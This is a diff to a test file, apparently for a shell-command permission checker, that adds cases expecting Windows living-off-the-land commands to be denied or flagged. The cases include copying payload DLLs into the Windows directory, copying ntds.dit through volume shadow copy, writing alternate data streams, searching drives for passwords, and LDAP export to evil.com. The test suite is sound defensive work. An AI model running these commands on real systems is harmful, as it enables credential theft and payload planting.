@@ -70,9 +70,53 @@ describe('the servers of csvde, ldifde and dnscmd; their files', () => {
   bashTable([['Csvde -s evil.com -f out.csv', 'deny'], ['ldifde -s evil.com -f out.ldf', 'deny']]);
 });
 
-describe('files that name URLs or files to fetch: cmdl32, ldifde -i', () => {
+describe('files that name URLs or files to fetch: cmdl32, ldifde -i, diantz /f, findstr /F:', () => {
   table([
     ['Set-Content c.ini x; cmdl32 /vpn /lan C:\\w\\repo\\c.ini', 'ask'],
     ['Set-Content i.ldf x; Ldifde -i -f i.ldf', 'ask'],
+    ['Set-Content d.ddf x; diantz /f d.ddf', 'ask'],
+    ['findstr /F:list.txt x', 'ask'],
+  ]);
+});
+
+describe('colorcpl copies its operand into the Windows directory', () => {
+  table([
+    ['colorcpl.exe C:\\w\\repo\\payload.dll', 'deny'],
+    ['colorcpl.exe payload.exe', 'deny'],
+    ['colorcpl.exe $env:TEMP\\x.icm', 'deny'],
+  ]);
+  bashTable([['colorcpl.exe payload.exe', 'deny']]);
+});
+
+describe('findstr, esentutl, extrac32, diantz and GfxDownloadWrapper read and write their operands', () => {
+  table([
+    ['findstr /S /I password C:\\Secrets\\*', 'ask'],
+    ['findstr /S /I password C:\\*', 'ask'],
+    ['findstr /S /I password \\*', 'ask'],
+    ['findstr /S /I /D:C:\\ password *.txt', 'ask'],
+    ['findstr /V /L W3 $env:SystemDrive\\Secrets\\x', 'ask'],
+    ['findstr /G:C:\\Secrets\\p.txt a.txt', 'deny'],
+    ['esentutl.exe /y $env:SystemDrive\\Secrets\\x /d C:\\w\\repo\\x /o', 'ask'],
+    ['esentutl.exe /y C:\\w\\repo\\x /d $env:windir\\x /o', 'ask'],
+    ['esentutl.exe /y /vss $env:windir\\ntds\\ntds.dit /d c:\\w\\repo\\ntds.dit', 'ask'],
+    ['extrac32.exe /C $env:SystemDrive\\Secrets\\x C:\\w\\repo\\calc.exe', 'ask'],
+    ['extrac32 /Y /E /L $env:windir x.cab', 'ask'],
+    ['extrac32 x.cab C:\\Windows\\x.txt:ads', 'deny'],
+    ['diantz.exe $env:SystemDrive\\Secrets\\x c:\\w\\repo\\file.cab', 'ask'],
+    ['diantz.exe C:\\w\\repo\\x C:\\Windows\\x.cab', 'deny'],
+    ['GfxDownloadWrapper.exe "https://good.com/x" "$env:windir\\x"', 'ask'],
+    ['findstr foo a.txt', 'allow'],
+    ['findstr /C:"foo bar" a.txt b.txt', 'allow'],
+    ['findstr /S /I /D:C:\\w\\repo password a.txt', 'allow'],
+    ['esentutl.exe /y C:\\w\\repo\\x /d C:\\w\\repo\\y /o', 'allow'],
+    ['extrac32 /E x.cab', 'allow'],
+    ['diantz C:\\w\\repo\\a.txt a.cab', 'allow'],
+  ]);
+  bashTable([
+    ['findstr /S /I password /c/Secrets/*', 'ask'],
+    ["findstr /S /I password '/c/*'", 'ask'],
+    ['esentutl.exe /y /c/Secrets/x /d x /o', 'deny'],
+    ['esentutl.exe /y a /d /c/Windows/x /o', 'deny'],
+    ['findstr foo a.txt', 'allow'],
   ]);
 });
